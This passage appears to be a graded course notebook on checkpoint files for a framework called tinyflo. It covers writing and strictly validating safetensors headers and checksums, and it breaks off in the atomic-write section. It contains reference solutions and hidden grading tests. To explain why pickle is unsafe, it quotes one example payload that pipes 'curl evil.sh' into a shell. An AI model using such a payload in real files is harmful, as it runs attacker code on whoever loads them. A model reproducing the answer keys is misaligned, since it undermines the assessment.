# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # Module 09 — Checkpoints
#
# A training run that takes a day will be interrupted: a machine is
# preempted, a job hits its time limit, someone presses Ctrl-C. A
# *checkpoint* is what lets it go on as if nothing happened — and a bad one
# is worse than none: a file half-written when the process died, a file that
# silently loads the wrong layer, or one that runs code when it is opened.
#
# This module builds tinyflo's checkpoints, in nine tasks:
#
# | task | points | what |
# |---|---|---|
# | `checkpoints_write` | 2 | the safetensors file format, written by hand, with a checksum |
# | `checkpoints_header` | 2 | reading its header without trusting a byte of it |
# | `checkpoints_read` | 1 | reading the tensors, the checksum checked |
# | `checkpoints_atomic` | 2 | `atomic_write`: a crash at any moment leaves the previous file intact |
# | `checkpoints_load` | 3 | loading into a model: match by name, `LoadReport`, strict and partial loading |
# | `checkpoints_resume` | 2 | the complete training state: counters, history, data loader, GradScaler |
# | `checkpoints_retention` | 2 | which checkpoints to keep: the last N, the best, every k-th |
# | `checkpoints_background` | 1 | saving on a worker thread, one save at a time, errors not lost |
#
# ## Why not pickle?
#
# `torch.save` (before `weights_only=True` became its default) and Python's
# `pickle` store objects as a little *program* for a stack machine that
# rebuilds them. One of its instructions is "call this function with these
# arguments": an object's `__reduce__` method returns `(callable, args)`, and
# unpickling calls `callable(*args)`. A file crafted with
# `__reduce__ = lambda self: (os.system, ("curl evil.sh | sh",))` runs that
# command the moment someone *loads* it. Model files are shared on the
# internet by the million; "loading a file" must never mean "running
# someone's code". So: **no pickle anywhere on the load path**.
#
# Tensors are just bytes with a dtype and a shape; the rest of a training
# state (epoch, step, the schedule, random-generator states) is numbers and
# strings — JSON. The *safetensors* format (Hugging Face) is exactly that
# pair, and it is small enough to write yourself.

# %%
#| default_exp core.checkpoints

# %%
#| export
from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import json
import math
import os
import re
import secrets
import threading
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import IO, Any, NamedTuple

import numpy as np

from tinyflo.core.autograd import no_grad
from tinyflo.core.tensor import (
    ShapeError,
    Tensor,
    as_device,
    brief,
    described,
    get_rng_state,
    is_array,
    set_rng_state,
    to_host,
)
from tinyflo.core.training import Callback, CheckpointIO, register_plugin

# %% nbgrader={"grade": false, "grade_id": "setup", "locked": true, "schema_version": 3, "solution": false}
import sys

# This notebook *is* tinyflo.core.checkpoints: hide the package's copy of it,
# so that nothing here uses it by accident. (Grading needs no such help:
# there, that copy is empty.)
sys.modules["tinyflo.core.checkpoints"] = None


# Random inputs of the hidden checks: grading seeds check_rng per student and task.
check_rng = np.random.default_rng(0)

# %%
import io
import tempfile
import tinyflo
from tinyflo.core.data import DataLoader, TensorDataset
from tinyflo.core.layers import Dropout, Linear, ReLU, Sequential
from tinyflo.core.losses import cross_entropy
from tinyflo.core.optim import AdamW
from tinyflo.core.schedulers import CosineAnnealing, Warmup
from tinyflo.core.training import Precision, Trainer

_workdir = tempfile.TemporaryDirectory()  # every file this notebook writes goes here
WORK = Path(_workdir.name)

# %% [markdown]
# ## The safetensors format
#
# A safetensors file is three parts, back to back:
#
# ```
# [ 8 bytes: N, the header length, unsigned little-endian ]
# [ N bytes: a JSON header, padded with spaces to a multiple of 8 ]
# [ the payload: every tensor's raw bytes, little-endian, one after another ]
# ```
#
# The header maps each tensor's name to
# `{"dtype": "F32", "shape": [3, 4], "data_offsets": [begin, end]}`, the
# offsets counted from the start of the payload. One optional entry,
# `"__metadata__"`, maps strings to strings: that is where the non-tensor
# state goes, as JSON text. Dtype codes: `F64 F32 F16 BF16 I64 I32 I16 I8
# U64 U32 U16 U8 BOOL` (NumPy has no bfloat16: the `ml_dtypes` package adds
# it).
#
# The reader must trust *nothing* in the file: a header length larger than
# the file, offsets that overlap, leave holes or run past the end, a shape
# whose size does not fit its byte range — each is refused with an error
# that names the file and the tensor. Then the payload is turned into arrays
# with `np.frombuffer`: bytes become numbers, nothing is executed.
#
# **Integrity.** A disk, a network copy or a half-finished upload can damage
# a file without any error. We add a SHA-256 checksum to the metadata under
# `"tinyflo.sha256"`: the hash of the header *without* the checksum itself
# (as canonical JSON: sorted keys, no spaces) followed by the payload bytes.
# Any changed bit — a flipped weight, an edited epoch number, a cut-off tail —
# changes the hash, and the reader refuses the file. A file from another
# framework has no checksum; it loads, with the check skipped (the caller is
# told).
#
# The dtype table and the checks of a single header entry are given.

# %%
#| export
FORMAT_VERSION = "1"
CHECKSUM_KEY = "tinyflo.sha256"
FORMAT_KEY = "tinyflo.format"
STRUCTURE_KEY = "tinyflo.structure"
STATE_KEY = "tinyflo.state"
MAX_HEADER_BYTES = 100_000_000  # the reference implementation's limit: a larger "header" is a damaged file
TEMP_MARK = ".tmp-"  # atomic_write's temporary files: .<name>.tmp-<random>
MAX_DIMS = 64  # more dimensions than any real tensor has: a damaged (or hostile) header

_CODES = {("f", 8): "F64", ("f", 4): "F32", ("f", 2): "F16", ("i", 8): "I64", ("i", 4): "I32", ("i", 2): "I16",
          ("i", 1): "I8", ("u", 8): "U64", ("u", 4): "U32", ("u", 2): "U16", ("u", 1): "U8", ("b", 1): "BOOL"}
_DTYPES = {code: np.dtype(f"<{kind}{size}") if kind != "b" else np.dtype(bool) for (kind, size), code in _CODES.items()}


class CheckpointError(ValueError):
    """A checkpoint file that is damaged, not safetensors, or does not fit what it is loaded into."""


def _bfloat16() -> np.dtype | None:
    try:
        import ml_dtypes
    except ImportError:
        return None
    return np.dtype(ml_dtypes.bfloat16)


def dtype_code(dtype: Any, name: str) -> str:
    """The safetensors code of a NumPy dtype (``float32`` → ``F32``)."""
    dtype = np.dtype(dtype)
    bf16 = _bfloat16()
    if bf16 is not None and dtype == bf16:
        return "BF16"
    code = _CODES.get((dtype.kind, dtype.itemsize))
    if code is None:
        raise CheckpointError(f"tensor {name!r} has dtype {dtype}, which safetensors cannot store; "
                              f"expected one of {', '.join(sorted(_DTYPES))} or bfloat16")
    return code


def code_dtype(code: Any, where: str) -> np.dtype:
    """The NumPy dtype of a safetensors code (``BF16`` needs ml_dtypes)."""
    if code == "BF16":
        bf16 = _bfloat16()
        if bf16 is None:
            raise CheckpointError(f"{where}: dtype BF16 needs the ml_dtypes package (pip install ml_dtypes)")
        return bf16
    if code not in _DTYPES:
        raise CheckpointError(f"{where}: unknown dtype {code!r}; expected one of {', '.join(sorted(_DTYPES))}, BF16")
    return _DTYPES[code]


def _check_entry(entry: Any, where: str) -> tuple[np.dtype, tuple[int, ...], int, int]:
    """(dtype, shape, begin, end) of one header entry, or a CheckpointError saying what is wrong."""
    if not isinstance(entry, dict) or set(entry) != {"dtype", "shape", "data_offsets"}:
        raise CheckpointError(f"{where}: expected {{'dtype', 'shape', 'data_offsets'}}; got {entry!r:.120}")
    if not isinstance(entry["dtype"], str):
        raise CheckpointError(f"{where}: dtype must be a string such as 'F32'; got {entry['dtype']!r:.60}")
    dtype = code_dtype(entry["dtype"], where)
    shape, offsets = entry["shape"], entry["data_offsets"]

    def natural(v: Any) -> bool:
        return isinstance(v, int) and not isinstance(v, bool) and v >= 0

    if not isinstance(shape, list) or len(shape) > MAX_DIMS or not all(natural(s) for s in shape):
        raise CheckpointError(f"{where}: shape must be a list of at most {MAX_DIMS} non-negative integers; "
                              f"got {shape!r:.120}")
    if not (isinstance(offsets, list) and len(offsets) == 2 and all(natural(o) for o in offsets)
            and offsets[0] <= offsets[1]):
        raise CheckpointError(f"{where}: data_offsets must be [begin, end] with 0 <= begin <= end; got {offsets!r}")
    begin, end = offsets
    expected = 0 if 0 in shape else dtype.itemsize
    for size in shape:  # step by step, stopping once past the byte range: no huge integer products
        expected *= size
        if expected > end - begin:
            break
    if end - begin != expected:
        raise CheckpointError(f"{where}: shape {tuple(shape)!r:.120} of {entry['dtype']} needs "
                              f"{'more than ' if expected > end - begin and 0 not in shape else ''}{expected} bytes; "
                              f"data_offsets {offsets} give {end - begin}")
    return dtype, tuple(shape), begin, end


def _canonical(index: Mapping[str, Any], metadata: Mapping[str, str]) -> bytes:
    """The header without the checksum, as canonical JSON: what the checksum covers before the payload."""
    header = dict(index)
    rest = {k: v for k, v in metadata.items() if k != CHECKSUM_KEY}
    if rest:
        header["__metadata__"] = rest
    return json.dumps(header, sort_keys=True, separators=(",", ":")).encode()


def _little_endian(array: Any, name: str) -> np.ndarray:
    """A C-contiguous little-endian NumPy copy-or-view of a NumPy array or Tensor."""
    if isinstance(array, Tensor):
        array = array.data
    if not isinstance(array, np.ndarray):
        array = to_host(array) if is_array(array) else np.asarray(array)
    if array.dtype.byteorder == ">":
        array = array.astype(array.dtype.newbyteorder("<"))
    return array if array.flags.c_contiguous else array.copy(order="C")  # ascontiguousarray would make 0-d 1-d


# %% [markdown]
# ### Task `checkpoints_write` (2 points): write a safetensors file
#
# `write_safetensors(f, tensors, metadata=None, checksum=True)` writes to an
# open binary file. Order the tensors by item size (largest first), then by
# name — every tensor then starts at a multiple of its own item size, so
# arrays read back are aligned. Build the header: for each tensor its dtype
# code (`dtype_code`), shape and `[begin, end]` offsets; put the metadata
# under `"__metadata__"`, adding, when `checksum` is true, the format version
# (`FORMAT_KEY`, unless the caller set one) and the checksum: SHA-256 of
# `_canonical(index, metadata)` then of each tensor's bytes in file order.
# Encode the header (compact JSON), pad it with spaces to a multiple of 8,
# write its length (8 bytes, little-endian), the header, then each array's
# bytes (`array.reshape(-1).view(np.uint8)` works for every dtype, 0-d and
# empty arrays included; `_little_endian` gives each array in the byte order
# and layout the file needs). Return the number of bytes written. The checks
# of the arguments are given.
#
# **Checked when graded** (besides the tests below), with names, dtypes,
# shapes, values, metadata and format versions drawn for you:
#
# * `write_safetensors` returns the number of bytes it wrote
# * largest items first, then by name
# * the checksum is the SHA-256 of `_canonical(index, metadata)` followed by the payload
# * a big-endian array is stored little-endian
# * a 0-d array has shape [] and its bytes
# * a format version the caller set is kept
# * `checksum=False`: no checksum and no format version
# * every header is padded with spaces to a multiple of 8

# %% nbgrader={"grade": false, "grade_id": "checkpoints_write_code", "locked": false, "schema_version": 3, "solution": true}
#| export
def write_safetensors(f: IO[bytes], tensors: Mapping[str, Any], metadata: Mapping[str, str] | None = None,
                      checksum: bool = True) -> int:
    """Write ``tensors`` (name → array) and ``metadata`` (str → str) to the binary file ``f``; bytes written."""
    metadata = dict(metadata or {})
    for key, value in metadata.items():
        if not isinstance(key, str) or not isinstance(value, str):
            raise TypeError(f"write_safetensors: metadata must map str to str; {key!r} maps to a {type(value).__name__}")
    for name in tensors:
        if not isinstance(name, str) or name == "__metadata__":
            raise ValueError(f"write_safetensors: tensor names must be strings other than '__metadata__'; got {name!r}")
    if not checksum and FORMAT_KEY in metadata:
        raise ValueError(f"write_safetensors: metadata key {FORMAT_KEY!r} with checksum=False would make a file "
                         "tinyflo refuses to read (its files always carry a checksum); drop the key or the flag")
    ### BEGIN SOLUTION
    arrays = {name: _little_endian(a, name) for name, a in tensors.items()}
    order = sorted(arrays, key=lambda name: (-arrays[name].dtype.itemsize, name))
    index, offset = {}, 0
    for name in order:
        a = arrays[name]
        index[name] = {"dtype": dtype_code(a.dtype, name), "shape": list(a.shape), "data_offsets": [offset, offset + a.nbytes]}
        offset += a.nbytes
    if checksum:
        metadata.setdefault(FORMAT_KEY, FORMAT_VERSION)
        digest = hashlib.sha256(_canonical(index, metadata))
        for name in order:
            digest.update(arrays[name].reshape(-1).view(np.uint8))
        metadata[CHECKSUM_KEY] = digest.hexdigest()
    header = dict(index)
    if metadata:
        header["__metadata__"] = metadata
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    f.write(len(raw).to_bytes(8, "little"))
    f.write(raw)
    for name in order:
        f.write(arrays[name].reshape(-1).view(np.uint8))
    return 8 + len(raw) + offset
    ### END SOLUTION


# %% [markdown]
# A round trip through memory (no file needed: `write_safetensors` takes any
# binary file object), then the first bytes of the result:

# %%
_buffer = io.BytesIO()
write_safetensors(_buffer, {"w": np.arange(6, dtype=np.float32).reshape(2, 3), "step": np.int64(7)}, {"note": "hi"})
_raw = _buffer.getvalue()
print("header length:", int.from_bytes(_raw[:8], "little"))
print(_raw[8:8 + int.from_bytes(_raw[:8], "little")].decode())

# %% nbgrader={"grade": true, "grade_id": "checkpoints_write", "locked": true, "points": 2, "schema_version": 3, "solution": false}
def _parse(raw):
    """(header, payload) of a safetensors file's bytes, read by hand."""
    n = int.from_bytes(raw[:8], "little")
    return json.loads(raw[8:8 + n]), raw[8 + n:]


original = {"a": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.array([1, -2], np.int8),
            "flag": np.array(True), "z": np.array([0.5, -1.5]), "none": np.zeros((0, 3), np.float64)}
_file = io.BytesIO()
written = write_safetensors(_file, original, {"epoch": "3"})
raw = _file.getvalue()
header, payload = _parse(raw)
assert written == len(raw), f"write_safetensors returns the number of bytes it wrote ({len(raw)}); got {written}"
assert int.from_bytes(raw[:8], "little") % 8 == 0, "the header is padded with spaces to a multiple of 8"
assert header["z"] == {"dtype": "F64", "shape": [2], "data_offsets": [0, 16]} and \
    header["a"] == {"dtype": "F32", "shape": [3, 4], "data_offsets": [16, 64]}, "largest items first, then by name"
assert len(payload) == 16 + 48 + 2 + 1, "the payload is the tensors' bytes, one after another, nothing else"
assert np.array_equal(np.frombuffer(payload[16:64], np.float32).reshape(3, 4), original["a"]), "a's bytes at its offsets"
assert header["__metadata__"]["epoch"] == "3" and header["__metadata__"][FORMAT_KEY] == FORMAT_VERSION, \
    "the metadata goes under __metadata__, with the format version added"
### BEGIN HIDDEN TESTS
# This student's own inputs: check_rng is seeded from the course, the student and the task.
_rs_names = sorted({f"t{int(n)}" for n in check_rng.integers(10, 99, 6)})
_rs_small = (np.int8, np.uint8, np.bool_)[int(check_rng.integers(3))]  # the first name: 1-byte items
_rs_large = (np.float64, np.int64, np.uint64)[int(check_rng.integers(3))]  # the last name: 8-byte items
_rs_other = (np.float32, np.float16, np.int16, np.int32, np.float64, np.int8)
_rs_tensors = {}
for _rs_i, _rs_name in enumerate(_rs_names):
    _rs_dt = _rs_small if _rs_i == 0 else _rs_large if _rs_i == len(_rs_names) - 1 else \
        _rs_other[int(check_rng.integers(len(_rs_other)))]
    _rs_shape = tuple(int(s) for s in check_rng.integers(1, 4, size=int(check_rng.integers(0, 3))))
    _rs_tensors[_rs_name] = (check_rng.standard_normal(_rs_shape) * 50).astype(_rs_dt)
_rs_meta = {"epoch": str(int(check_rng.integers(1, 1000))), "note": "n" * int(check_rng.integers(0, 30))}
_file = io.BytesIO()
_rs_written = write_safetensors(_file, _rs_tensors, _rs_meta)
_rs_raw = _file.getvalue()
assert _rs_written == len(_rs_raw), "write_safetensors returns the number of bytes it wrote"
header, payload = _parse(_rs_raw)
metadata = header.get("__metadata__", {})
index = {k: v for k, v in header.items() if k != "__metadata__"}
_rs_order = sorted(index, key=lambda name: index[name]["data_offsets"])
assert _rs_order == sorted(_rs_tensors, key=lambda name: (-_rs_tensors[name].dtype.itemsize, name)), \
    "largest items first, then by name"
assert metadata.get(CHECKSUM_KEY) == hashlib.sha256(_canonical(index, metadata) + payload).hexdigest(), \
    "the checksum is the SHA-256 of _canonical(index, metadata) followed by the payload"
_rs_big = check_rng.integers(-1000, 1000, int(check_rng.integers(1, 6))).astype(">i4")
_rs_half = np.float16(check_rng.uniform(-100, 100))
_file = io.BytesIO()
write_safetensors(_file, {"x": _rs_big, "s": _rs_half})
header, payload = _parse(_file.getvalue())
assert header["x"]["dtype"] == "I32" and payload[:4 * _rs_big.size] == _rs_big.astype("<i4").tobytes(), \
    "a big-endian array is stored little-endian"
assert header["s"]["shape"] == [] and payload[4 * _rs_big.size:] == _rs_half.tobytes(), \
    "a 0-d array has shape [] and its bytes"
_rs_version = str(int(check_rng.integers(2, 100)))
_file = io.BytesIO()
write_safetensors(_file, {"x": _rs_big}, {FORMAT_KEY: _rs_version})
assert _parse(_file.getvalue())[0]["__metadata__"][FORMAT_KEY] == _rs_version, "a format version the caller set is kept"
_file = io.BytesIO()
write_safetensors(_file, _rs_tensors, checksum=False)
assert sorted(_parse(_file.getvalue())[0]) == sorted(_rs_tensors), "checksum=False: no checksum and no format version"
lengths = []
_rs_from = int(check_rng.integers(0, 50))
for i in range(_rs_from, _rs_from + 8):
    _file = io.BytesIO()
    write_safetensors(_file, {"x": _rs_big}, {"note": "n" * i})
    lengths.append(int.from_bytes(_file.getvalue()[:8], "little") % 8)
assert lengths == [0] * 8, "every header is padded with spaces to a multiple of 8"
### END HIDDEN TESTS

# %% [markdown]
# ### Task `checkpoints_header` (2 points): trust nothing in the header
#
# `parse_header(data, where)` takes the file's bytes and returns
# `(index, metadata, payload_start)`: check the length prefix (at least 8
# bytes; the header length at most `MAX_HEADER_BYTES` and within the
# file), parse the JSON (a dict; catch `ValueError` and `RecursionError` —
# bad UTF-8 or JSON, an integer too long to convert, nesting too deep are
# all a damaged file), take out `"__metadata__"` (absent: `{}`; present, a
# dict of str → str — test `is None`, not falsiness: `0` or `[]` is a
# damaged file), check each entry with `_check_entry` (given), and check
# that the offsets, sorted, tile the payload exactly: the first begins at
# 0, each begins where the previous ended, and the last ends at the end of
# the file. Say "truncated" when the payload is shorter than the header
# promises. Every error is a `CheckpointError` naming `where` (the file)
# and the tensor.
#
# **Checked when graded** (besides the tests below), with tensor names,
# sizes, gaps, overlaps, lengths, trailing bytes, nesting depths and
# damaged metadata drawn for you:
#
# * a file of fewer than 8 bytes is refused; the error names the file
# * a header length beyond the file is refused
# * each entry is checked with `_check_entry`: the error names the tensor and the bytes its shape needs
# * a gap before a tensor is refused, naming the tensor
# * overlapping tensors are refused
# * bytes after the last tensor are refused, saying how many
# * `__metadata__` must be a dict of strings to strings; anything else (`0`, `[]`, `""`, `{"k": 1}`, ...) must be refused
# * a header that is not a JSON object (or nested too deep to parse) is refused with a CheckpointError

# %% nbgrader={"grade": false, "grade_id": "checkpoints_header_code", "locked": false, "schema_version": 3, "solution": true}
#| export
def parse_header(data: bytes | bytearray | memoryview, where: str) -> tuple[dict[str, Any], dict[str, str], int]:
    """``(index, metadata, payload_start)`` of a safetensors file's bytes, every entry checked."""
    ### BEGIN SOLUTION
    if len(data) < 8:
        raise CheckpointError(f"{where}: the file has {len(data)} bytes; a safetensors file starts with an "
                              "8-byte header length (the file is truncated, or not safetensors)")
    n = int.from_bytes(data[:8], "little")
    if n > MAX_HEADER_BYTES or 8 + n > len(data):
        raise CheckpointError(f"{where}: the header length is {n} bytes but the file has {len(data)} bytes "
                              "(the file is truncated, or not safetensors)")
    try:
        header = json.loads(bytes(data[8:8 + n]).decode("utf-8"))
    except (ValueError, RecursionError) as err:  # bad UTF-8 and JSON, huge integers, deep nesting
        raise CheckpointError(f"{where}: the header is not valid JSON ({err}); the file is damaged or not safetensors") from None
    if not isinstance(header, dict):
        raise CheckpointError(f"{where}: the header must be a JSON object; got {type(header).__name__}")
    metadata = header.pop("__metadata__", None)
    metadata = {} if metadata is None else metadata
    if not isinstance(metadata, dict) or not all(isinstance(k, str) and isinstance(v, str) for k, v in metadata.items()):
        raise CheckpointError(f"{where}: __metadata__ must map strings to strings; got {metadata!r:.120}")
    spans = sorted((_check_entry(entry, f"{where}: tensor {name!r}")[2:], name) for name, entry in header.items())
    payload = len(data) - 8 - n
    position = 0
    for (begin, end), name in spans:
        if begin != position:
            raise CheckpointError(f"{where}: tensor {name!r} begins at byte {begin} of the payload; expected "
                                  f"{position} (the tensors must follow each other without gaps or overlaps)")
        position = end
    if position > payload:
        raise CheckpointError(f"{where}: truncated: the header promises {position} bytes of tensor data, "
                              f"the file holds {payload}")
    if position < payload:
        raise CheckpointError(f"{where}: {payload - position} bytes follow the last tensor; the file is damaged")
    return header, metadata, 8 + n
    ### END SOLUTION


# %% nbgrader={"grade": true, "grade_id": "checkpoints_header", "locked": true, "points": 2, "schema_version": 3, "solution": false}
def _header_error(data):
    """The message of the CheckpointError parse_header raises for ``data``; None when it accepts them."""
    try:
        parse_header(data, "damaged.safetensors")
    except CheckpointError as err:
        return str(err)
    return None


def _with_header(header, payload=b""):
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + payload


index, metadata, start = parse_header(raw, "model.safetensors")
assert set(index) == set(original) and metadata["epoch"] == "3", "the index (every tensor) and the metadata"
assert index["a"]["data_offsets"] == [16, 64] and start == 8 + int.from_bytes(raw[:8], "little"), \
    "payload_start: 8 + the header length"
assert "truncated" in (_header_error(raw[:-5]) or ""), "a file cut short: a CheckpointError that says 'truncated'"
### BEGIN HIDDEN TESTS
# This student's own inputs: check_rng is seeded from the course, the student and the task.
_rs_name = f"w{int(check_rng.integers(10, 99))}"
_rs_k = int(check_rng.integers(2, 9))
assert "damaged.safetensors" in (_header_error(raw[:int(check_rng.integers(0, 8))]) or ""), \
    "a file of fewer than 8 bytes is refused; the error names the file"
_rs_len = int(check_rng.integers(len(raw), 2**40))
assert "damaged.safetensors" in (_header_error(_rs_len.to_bytes(8, "little") + raw[8:]) or ""), \
    "a header length beyond the file is refused"
error = _header_error(_with_header({_rs_name: {"dtype": "F32", "shape": [_rs_k], "data_offsets": [0, 4 * _rs_k - 4]}},
                                   b"\0" * (4 * _rs_k - 4))) or ""
assert "damaged.safetensors" in error and f"'{_rs_name}'" in error and f"{4 * _rs_k} bytes" in error, \
    "each entry is checked with _check_entry: the error names the tensor and the bytes its shape needs"
_rs_gap = 4 * int(check_rng.integers(1, 4))
error = _header_error(_with_header({_rs_name: {"dtype": "F32", "shape": [_rs_k], "data_offsets": [_rs_gap, _rs_gap + 4 * _rs_k]}},
                                   b"\0" * (_rs_gap + 4 * _rs_k))) or ""
assert "damaged.safetensors" in error and f"'{_rs_name}'" in error, "a gap before a tensor is refused, naming the tensor"
_rs_cut = int(check_rng.integers(1, 4 * _rs_k))
overlap = {"x": {"dtype": "F32", "shape": [_rs_k], "data_offsets": [0, 4 * _rs_k]},
           "y": {"dtype": "F32", "shape": [_rs_k], "data_offsets": [_rs_cut, _rs_cut + 4 * _rs_k]}}
assert "damaged.safetensors" in (_header_error(_with_header(overlap, b"\0" * (_rs_cut + 4 * _rs_k))) or ""), \
    "overlapping tensors are refused"
_rs_junk = int(check_rng.integers(1, 64))
error = _header_error(_with_header({"x": {"dtype": "F32", "shape": [_rs_k], "data_offsets": [0, 4 * _rs_k]}},
                                   b"\0" * (4 * _rs_k + _rs_junk))) or ""
assert "damaged.safetensors" in error and f"{_rs_junk} bytes" in error, "bytes after the last tensor are refused, saying how many"
_rs_falsy = [(0, [], "", 0.0, False)[int(i)] for i in check_rng.choice(5, 2, replace=False)]
_rs_odd = ({"k": int(check_rng.integers(0, 9))}, {"k": ["v"]}, "text", [["k", "v"]])[int(check_rng.integers(4))]
for bad in (*_rs_falsy, _rs_odd):
    assert "damaged.safetensors" in (_header_error(_with_header({"__metadata__": bad})) or ""), \
        f"__metadata__ must be a dict of strings to strings; {bad!r} must be refused"
_rs_deep = int(check_rng.integers(20_000, 120_000))
for text in (b"[1, 2]", b"{not json", b"\xff\xfe", b"[" * _rs_deep, b'{"a": ' * _rs_deep):
    assert "damaged.safetensors" in (_header_error(len(text).to_bytes(8, "little") + text) or ""), \
        "a header that is not a JSON object (or nested too deep to parse) is refused with a CheckpointError"
### END HIDDEN TESTS

# %% [markdown]
# ### Task `checkpoints_read` (1 point): read the tensors, check the checksum
#
# `load_file(path, verify=True)` reads the file into a `bytearray` (check
# that `readinto` filled all of it), parses the header, checks the checksum
# when there is one and `verify` is true (a mismatch is a `CheckpointError`
# that says the file is damaged; so is a file with our format key but no
# checksum — a damaged key name must not switch the check off), and
# returns `(tensors, metadata)` — arrays made with `np.frombuffer` on the
# bytearray (so they are writable and need no copy).
#
# `save_file(path, tensors, metadata)` — `write_safetensors` through
# `atomic_write` (the next task) — is given after the grade cell.
#
# **Checked when graded** (besides the tests below), with tensors, metadata
# values, the bit flipped and where a file is cut drawn for you:
#
# * arrays read into a bytearray are writable
# * any tensors come back bit for bit
# * and with their shapes
# * a flipped bit is refused: the checksum does not match
# * the error names the file
# * `verify=False` skips the checksum
# * an edited metadata value is refused: the checksum
# * a truncated file is refused
# * a file without a checksum loads unchecked
# * a file with tinyflo's format key but no checksum is damaged: refused

# %% nbgrader={"grade": false, "grade_id": "checkpoints_read_code", "locked": false, "schema_version": 3, "solution": true}
#| export
def load_file(path: str | os.PathLike, verify: bool = True) -> tuple[dict[str, np.ndarray], dict[str, str]]:
    """``(tensors, metadata)`` of a safetensors file; the checksum is checked when the file has one."""
    path = Path(path)
    ### BEGIN SOLUTION
    with open(path, "rb") as f:
        data = bytearray(os.fstat(f.fileno()).st_size)
        if f.readinto(data) != len(data):
            raise CheckpointError(f"{path}: the file changed size while it was read; try again")
    index, metadata, start = parse_header(data, str(path))
    payload = memoryview(data)[start:]
    if verify and CHECKSUM_KEY in metadata:
        digest = hashlib.sha256(_canonical(index, metadata))
        digest.update(payload)
        if digest.hexdigest() != metadata[CHECKSUM_KEY]:
            raise CheckpointError(f"{path}: the checksum does not match: the file is damaged (altered or truncated); "
                                  "refusing to load it")
    if verify and FORMAT_KEY in metadata and CHECKSUM_KEY not in metadata:
        raise CheckpointError(f"{path}: a tinyflo file without its checksum: the file is damaged; refusing to load it")
    tensors = {}
    for name, entry in index.items():
        dtype, shape = code_dtype(entry["dtype"], f"{path}: tensor {name!r}"), tuple(entry["shape"])
        begin, end = entry["data_offsets"]
        if end == begin:
            try:
                tensors[name] = np.empty(shape, dtype)
            except ValueError:
                raise CheckpointError(f"{path}: tensor {name!r}: shape {shape!r:.120} is too large") from None
        else:
            tensors[name] = np.frombuffer(payload[begin:end], dtype=dtype).reshape(shape)
    return tensors, metadata
    ### END SOLUTION


# %% nbgrader={"grade": true, "grade_id": "checkpoints_read", "locked": true, "points": 1, "schema_version": 3, "solution": false}
def _roundtrip(tensors, metadata=None):
    path = WORK / "roundtrip.safetensors"
    with open(path, "wb") as f:
        write_safetensors(f, tensors, metadata)
    return load_file(path)


back, meta = _roundtrip(original, {"epoch": "3"})
assert set(back) == set(original) and meta["epoch"] == "3" and CHECKSUM_KEY in meta, "every tensor, and the metadata"
for key, value in original.items():
    assert back[key].dtype == value.dtype and back[key].shape == value.shape and np.array_equal(back[key], value), \
        f"tensor {key!r} comes back with its dtype, shape and values"
### BEGIN HIDDEN TESTS
# This student's own inputs: check_rng is seeded from the course, the student and the task.
_rs_epoch = str(int(check_rng.integers(1, 500)))
_rs_tensors = {f"t{i}": check_rng.standard_normal(tuple(int(s) for s in check_rng.integers(1, 5, size=i + 1))).astype(
    (np.float32, np.float64, np.float16)[int(check_rng.integers(3))]) for i in range(int(check_rng.integers(2, 5)))}
_rs_back, _ = _roundtrip(_rs_tensors, {"epoch": _rs_epoch})
assert [a.flags.writeable for a in _rs_back.values()] == [True] * len(_rs_tensors), \
    "arrays read into a bytearray are writable"
assert [_rs_back[k].tobytes() for k in sorted(_rs_tensors)] == [_rs_tensors[k].tobytes() for k in sorted(_rs_tensors)], \
    "any tensors come back bit for bit"
assert [_rs_back[k].shape for k in sorted(_rs_back)] == [_rs_tensors[k].shape for k in sorted(_rs_tensors)], \
    "and with their shapes"
raw = (WORK / "roundtrip.safetensors").read_bytes()


def _load_error(data, verify=True):
    """The message of the CheckpointError load_file raises for a file of ``data``; "" when it loads."""
    path = WORK / "damaged.safetensors"
    path.write_bytes(data)
    try:
        load_file(path, verify)
    except CheckpointError as err:
        return str(err)
    return ""


_rs_payload = sum(a.nbytes for a in _rs_tensors.values())
flipped = bytearray(raw)
flipped[len(raw) - 1 - int(check_rng.integers(_rs_payload))] ^= 1 << int(check_rng.integers(8))  # a bit of a tensor
_flipped_error = _load_error(bytes(flipped))
assert "checksum" in _flipped_error, "a flipped bit is refused: the checksum does not match"
assert "damaged.safetensors" in _flipped_error, "the error names the file"
assert _load_error(bytes(flipped), verify=False) == "", "verify=False skips the checksum"
edited = raw.replace(f'"epoch":"{_rs_epoch}"'.encode(), f'"epoch":"{int(_rs_epoch) ^ 1}"'.encode())  # as long
assert "checksum" in _load_error(edited), "an edited metadata value is refused: the checksum"
assert "damaged.safetensors" in _load_error(raw[:-int(check_rng.integers(1, _rs_payload))]), "a truncated file is refused"
_rs_ints = check_rng.integers(-30000, 30000, int(check_rng.integers(1, 6))).astype(np.int16)
text = json.dumps({"x": {"dtype": "I16", "shape": [_rs_ints.size], "data_offsets": [0, _rs_ints.nbytes]}}).encode()
(WORK / "foreign.safetensors").write_bytes(len(text).to_bytes(8, "little") + text + _rs_ints.tobytes())
foreign, foreign_meta = load_file(WORK / "foreign.safetensors")
assert foreign["x"].tolist() == _rs_ints.tolist() and sorted(foreign_meta) == [], "a file without a checksum loads unchecked"
text = json.dumps({"x": {"dtype": "I16", "shape": [_rs_ints.size], "data_offsets": [0, _rs_ints.nbytes]},
                   "__metadata__": {FORMAT_KEY: "1"}}).encode()
assert "checksum" in _load_error(len(text).to_bytes(8, "little") + text + _rs_ints.tobytes()), \
    "a file with tinyflo's format key but no checksum is damaged: refused"
### END HIDDEN TESTS

# %%
#| export
def save_file(path: str | os.PathLike, tensors: Mapping[str, Any], metadata: Mapping[str, str] | None = None,
              checksum: bool = True) -> Path:
    """Write a safetensors file atomically (a crash leaves any previous file at ``path`` intact)."""
    return atomic_write(path, lambda f: write_safetensors(f, tensors, metadata, checksum))


# %% [markdown]
# ## Writing without ever destroying the last good file
#
# Saving over the previous checkpoint with `open(path, "wb")` first empties
# the file, then fills it. A process killed in between — and a save of a
# large model takes seconds — leaves a half-file where the only good
# checkpoint was. The fix rests on one guarantee of POSIX (and of Windows'
# `MoveFileEx`, which `os.replace` uses): **renaming a file over another in
